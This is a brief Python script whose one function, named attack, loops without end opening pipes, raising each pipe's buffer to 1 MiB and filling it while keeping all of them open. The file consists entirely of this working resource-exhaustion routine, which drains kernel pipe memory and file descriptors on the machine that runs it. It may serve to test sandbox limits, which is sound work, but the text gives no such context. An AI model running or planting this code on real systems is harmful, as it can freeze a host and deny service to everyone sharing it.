import fcntl
import os


def attack():
    kept = []
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][1], fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(kept[-1][1], False)
        os.write(kept[-1][1], bytes(1 << 20))
